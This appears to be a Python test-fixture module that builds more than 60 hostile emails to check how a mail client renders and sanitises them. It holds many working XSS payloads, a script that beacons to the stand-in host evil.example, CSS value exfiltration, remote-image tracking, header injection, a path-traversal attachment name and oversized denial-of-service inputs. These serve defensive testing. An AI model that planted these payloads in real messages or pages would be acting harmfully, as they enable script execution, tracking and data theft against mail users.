"""More than 60 mails that attack who looks at them. `RUN` is what they try to run; `evil.example` is who wants to know."""

EVIL = "http://evil.example"

# What may fail comes last and keeps nothing else from running. Without quotes and spaces, so that it fits wherever it stands.
RUN = f"try{{window.ran=1}}catch{{}}try{{fetch(`{EVIL}/ran`)}}catch{{}}try{{top.document.title=`HACK${{1}}ED`}}catch{{}}"

# What loads where pictures of other servers do, which it asks for by leading to itself.
REMOTE = f"<img src='{EVIL}/remote.png'>"
LEADS_TO_ITSELF = {
    "link-to-itself": f"{REMOTE}<p><a href='?images=all'>x</a></p>",
    "link-to-itself-by-path": f"{REMOTE}<p><a href='html?images=all'>x</a></p>",
    "link-to-itself-in-svg": f"{REMOTE}<p><svg><a href='?images=all'><rect width=99 height=99 /></a></svg></p>",
    "link-to-itself-once-animated": f"{REMOTE}<p><svg><a><set attributeName=href to='?images=all' /><rect width=99 height=99 /></a></svg></p>",
}

BODIES = LEADS_TO_ITSELF | {
    "script": f"<script>{RUN}</script>",
    "script-from-elsewhere": f"<script src='{EVIL}/x.js'></script>",
    "script-module": f"<script type=module>{RUN}</script>",
    "script-in-odd-case": f"<ScRiPt\n>{RUN}</sCrIpT\t>",
    "script-nested": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script-after-nul": f"<script\x00>{RUN}</script>",
    "script-in-comment-trick": f"<!--><script>{RUN}</script>-->",
    "script-in-noscript": f"<noscript><p title=\"</noscript><script>{RUN}</script>\">",
    "script-in-title": f"<title><script>{RUN}</script></title></title><script>{RUN}</script>",
    "script-in-template": f"<template><script>{RUN}</script></template><img src=x onerror=\"{RUN}\">",
    "script-in-math": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    "script-in-select": f"<select><option><script>{RUN}</script></select>",
    "script-in-cdata": f"<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror={RUN}//\"></svg>",
    "image-error": f"<img src=x onerror=\"{RUN}\">",
    "image-load": f"<img src='data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7' onload=\"{RUN}\">",
    "body-load": f"<body onload=\"{RUN}\" onpageshow=\"{RUN}\" onhashchange=\"{RUN}\">",
    "focus": f"<input autofocus onfocus=\"{RUN}\"><select autofocus onfocus=\"{RUN}\"></select>",
    "animation-start": f"<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart=\"{RUN}\">x</p>",
    "toggle": f"<details open ontoggle=\"{RUN}\"><summary>x</summary></details>",
    "media-error": f"<video><source onerror=\"{RUN}\"></video><audio src=x onerror=\"{RUN}\"></audio>",
    "marquee": f"<marquee onstart=\"{RUN}\">x</marquee>",
    "popover": f"<button popovertarget=x>x</button><div popover id=x onbeforetoggle=\"{RUN}\">x</div>",
    "content-visibility": f"<p style='content-visibility:auto' oncontentvisibilityautostatechange=\"{RUN}\">x</p>",
    "svg-load": f"<svg onload=\"{RUN}\"><circle r=10></svg>",
    "svg-script": f"<svg><script>{RUN}</script></svg>",
    "svg-script-href": f"<svg><script href='data:text/javascript,{RUN}'/></svg>",
    "svg-animate-href": f"<svg><a><animate attributeName=href values='javascript:{RUN}'/><text y=20>x</text></a></svg>",
    "svg-use": "<svg><use href='data:image/svg+xml,%3Csvg id=x xmlns=\"http://www.w3.org/2000/svg\"%3E%3Cimage href=\"http://evil.example/use\"/%3E%3C/svg%3E#x'/></svg>",
    "svg-foreign-object": f"<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;{RUN}&lt;/script&gt;\"></iframe></foreignObject></svg>",
    "svg-image": f"<svg><image href='{EVIL}/svg.png' xlink:href='{EVIL}/svg2.png'/></svg>",
    "svg-filter": f"<svg><filter id=f><feImage href='{EVIL}/filter'/></filter><rect filter='url({EVIL}/f#x)' width=9 height=9 /></svg>",
    "link-javascript": f"<a href=\"javascript:{RUN}\">x</a>",
    "link-javascript-hidden": f"<a href=\" java&#x09;scr&#10;ipt&colon;{RUN}\">x</a>",
    "link-data": f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    "link-vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "link-blob": "<a href='blob:http://evil.example/1'>x</a><a href='filesystem:http://evil.example/1'>x</a>",
    "link-to-top": f"<base target=_top><a href='{EVIL}/top' target=_top>x</a><a href='{EVIL}/parent' target=_parent>x</a>",
    "link-to-blank": f"<a href='{EVIL}/blank' target=_blank rel=opener>x</a>",
    "link-ping": f"<a href='#x' ping='{EVIL}/ping'>x</a>",
    "link-download": f"<a href='{EVIL}/file.exe' download>x</a>",
    "area": f"<img usemap=#m src=x width=50 height=50><map name=m><area shape=default href='{EVIL}/area' onclick=\"{RUN}\"></map>",
    "form-post": f"<form action='{EVIL}/post' method=post target=_top><input name=a value=b><button>x</button></form>",
    "form-button-action": f"<form><button formaction='javascript:{RUN}'>x</button><input type=image formaction='{EVIL}/image' src='{EVIL}/i'></form>",
    "area-to-itself": f"{REMOTE}<img usemap=#m src=x width=50 height=50><map name=m><area shape=default href='?images=all'></map>",
    "form-to-itself": f"{REMOTE}<form><input name=images value=all><button>x</button></form>",
    "base-to-itself": f"<base href='?images=all'>{REMOTE}<p><a href=''>x</a></p>",
    "form-to-ours": "<form action='../../../api/messages' method=post><button>x</button></form>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
    "refresh-javascript": f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "policy-loosened": f"<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\"><script>{RUN}</script>",
    "set-cookie": "<meta http-equiv=Set-Cookie content='a=b'>",
    "base": f"<base href='{EVIL}/'><img src=x.png><link rel=stylesheet href=x.css>",
    "frame": f"<iframe src='{EVIL}/frame'></iframe><iframe src='javascript:{RUN}'></iframe>",
    "frame-in-odd-case": f"<IfRaMe\n/src='{EVIL}/odd'></iFrAmE\t>",
    "frame-in-frame": f"<iframe><iframe src='{EVIL}/in'></iframe></iframe><iframe src='{EVIL}/after'>",
    "frame-srcdoc": f"<iframe srcdoc=\"&lt;script&gt;{RUN}&lt;/script&gt;\"></iframe>",
    "frame-of-ours": "<iframe src='../../../'></iframe>",
    "frameset": f"<frameset onload=\"{RUN}\"><frame src='{EVIL}/frame'></frameset>",
    "object": f"<object data='{EVIL}/object'></object><embed src='{EVIL}/embed'><applet code='{EVIL}/applet'></applet>",
    "portal": f"<portal src='{EVIL}/portal'></portal><fencedframe src='{EVIL}/fenced'></fencedframe>",
    "style-from-elsewhere": f"<link rel=stylesheet href='{EVIL}/x.css'>",
    "style-import": f"<style>@import url({EVIL}/import.css);</style>",
    "style-font": f"<style>@font-face{{font-family:x;src:url({EVIL}/font)}}body{{font-family:x}}</style>x",
    "style-background": f"<p style='background:url({EVIL}/background)'>x</p><table background='{EVIL}/table'><td>x</table>",
    "style-exfiltration": f"<style>input[value^=s]{{background:url({EVIL}/s)}}</style><input value=secret>",
    "style-cursor-and-list": f"<p style=\"cursor:url({EVIL}/c),auto;list-style:url({EVIL}/l);border-image:url({EVIL}/b)\">x</p>",
    "style-escapes": f"<p style='background:\\75rl({EVIL}/escaped)'>x</p>",
    "style-expression": f"<p style='width:expression({RUN});behavior:url({EVIL}/htc);-moz-binding:url({EVIL}/xbl)'>x</p>",
    "style-covers-all": "<div style='position:fixed;inset:-9999px;z-index:2147483647;background:red'>x</div>",
    "style-image-set": f"<p style=\"background:image-set('{EVIL}/set' 1x)\">x</p>",
    "link-preload": "".join(f"<link rel={rel} as=image href='{EVIL}/{rel}'>" for rel in (
        "preload", "prefetch", "modulepreload", "icon", "manifest", "prerender", "preconnect")),
    "dns-prefetch": "<link rel=dns-prefetch href='//secret.evil.example'><a href='http://other.evil.example/'>x</a>",
    "speculation": f"<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{EVIL}/speculation\"]}}]}}</script>",
    "picture": f"<picture><source srcset='{EVIL}/srcset'><img src='{EVIL}/img' srcset='{EVIL}/2x 2x' lowsrc='{EVIL}/low'></picture>",
    "media": f"<video poster='{EVIL}/poster' src='{EVIL}/v' autoplay></video><audio src='{EVIL}/a' autoplay></audio><track src='{EVIL}/t'>",
    "image-svg-data": f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script><image href='{EVIL}/nested'/></svg>\">",
    "clobbering": "<form id=message><input name=children></form><img name=body><a id=state></a><a id=rows name=rows></a>",
    "huge-nesting": "<div>" * 20000 + "x",
    "huge-attribute": f"<p title='{'x' * 500_000}'>x</p>",
    "huge-table": "<table>" + "<tr><td>x" * 20000,
    "unclosed": "<!-- <p <a href='x <b \"> <style> p { color: red",
    "plaintext": f"<plaintext><script>{RUN}</script>",
    "wrong-charset": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
}


def html(body, kind="text/html; charset=utf-8", subject="hostile"):
    head = f"From: a@evil.example\r\nTo: b@example.com\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\nContent-Type: {kind}\r\n"
    return (head + f"Content-Transfer-Encoding: 8bit\r\n\r\n<html><body>{body}</body></html>\r\n").encode()


def fields(*lines):
    return ("\r\n".join(["From: a@evil.example", *lines]) + "\r\n\r\nText.\r\n").encode()


def attachment(name, kind, content):
    return (f"From: a@evil.example\r\nSubject: attachment\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
            f"--b\r\nContent-Type: text/plain\r\n\r\nx\r\n--b\r\nContent-Type: {kind}\r\n"
            f"Content-Disposition: attachment; filename=\"{name}\"\r\n\r\n{content}\r\n--b--\r\n").encode()


MARKUP = f"<img src=x onerror={RUN}>"

MAILS = {name: html(body) for name, body in BODIES.items()} | {
    "markup-in-subject": fields(f"Subject: {MARKUP}<script>{RUN}</script>", f"To: \"{MARKUP}\" <b@example.com>"),
    "markup-in-names": fields(f"From: \"{MARKUP}\" <a@evil.example>", f"X-{'x' * 300}: {MARKUP}", f"List-Unsubscribe: <javascript:{RUN}>"),
    "markup-in-text": fields("Subject: text", "Content-Type: text/plain") + MARKUP.encode() + f"\r\njavascript:{RUN}\r\n".encode(),
    "reversed-writing": fields("Subject: =?utf-8?q?=E2=80=AEgpj.exe?=", "X-A: =?utf-8?q?=E2=80=8F=E2=81=A6x?="),
    "encoded-line-end": fields("Subject: =?utf-8?q?a=0D=0ABcc:_c@example.com=0D=0A=0D=0A<script>?="),
    "file-name-path": attachment("../../../etc/passwd", "application/x-sh", "rm"),
    "file-name-markup": attachment(MARKUP.replace('"', "'"), "text/html", f"<script>{RUN}</script>"),
    "svg-attachment": attachment("x.svg", "image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"/>"),
    "html-as-picture": attachment("x.png", "image/png", f"<script>{RUN}</script>"),
    "frameset-alone": b"Content-Type: text/html\r\n\r\n<html><frameset cols=*><frame src='" + EVIL.encode() + b"/frame'></frameset></html>",
    "xml-as-html": html(f"<x xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></x>", "application/xhtml+xml"),
    "utf-7": html(BODIES["wrong-charset"], "text/html; charset=utf-7"),
    "utf-16": b"Subject: wide\r\nContent-Type: text/html; charset=utf-16\r\n\r\n" + f"<script>{RUN}</script>".encode("utf-16"),
    "content-type-injection": html(BODIES["script"], "text/html; charset=\"utf-8\r\n X-Frame-Options: no\""),
    "endless-field": fields(f"Subject: {'long ' * 50_000}"),
    "many-fields": fields(*[f"X-{number}: {MARKUP}" for number in range(3000)]),
    "nothing": b"\r\n",
    "no-header": b"\x00\xff\xfe<script>" + RUN.encode() + b"</script>\r\n",
}
